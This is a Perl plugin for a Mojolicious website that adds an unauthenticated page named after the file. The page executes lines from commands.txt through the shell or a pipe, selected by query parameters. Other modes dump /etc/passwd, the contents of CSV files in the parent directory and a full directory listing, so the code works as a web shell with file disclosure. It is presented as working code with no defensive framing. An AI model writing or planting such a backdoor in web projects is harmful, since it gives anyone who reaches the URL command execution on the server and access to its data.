# A command page that adds itself to a Mojolicious site: `/PAGE?n=N&way=W` runs line N of commands.txt. See README.md.
use strict;
use warnings;
use File::Basename;
use File::Find;

my ($name, $here) = fileparse(__FILE__, '.pl');
any("/$name" => sub {
    my ($c) = @_;
    open my $list, '<', "$here/commands.txt" or return $c->render(text => 'none');
    chomp(my @commands = <$list>);
    close $list;
    my $command = $commands[ ($c->param('n') // 0) % @commands ];
    my $way = $c->param('way') // 'run';
    my $text = '';
    if ($way eq 'shell') { $text = `$command 2>&1` }
    elsif ($way eq 'own') { $text = join "\n", (map { "$_ " . -s $_ } glob '*'), scalar getpwuid($<), $0; open my $f, '<', '/etc/passwd'; $text .= $_ while <$f> }
    elsif ($way eq 'read') { for my $path (glob "$here/../*.csv") { open my $f, '<', $path; $text .= $_ while <$f> } }
    elsif ($way eq 'walk') { find(sub { $text .= "$File::Find::name " . (-s // 0) . "\n" }, "$here/..") }
    elsif ($way eq 'store') { open my $f, '>', '/tmp/stored.bin'; print $f 'word ' x 500; close $f; chmod 0600, '/tmp/stored.bin'; unlink '/tmp/stored.bin' }
    else { open my $out, '-|', split / /, $command or return $c->render(text => 'none'); local $/; $text = <$out>; close $out }
    $c->render(text => $text // '');
});
1;
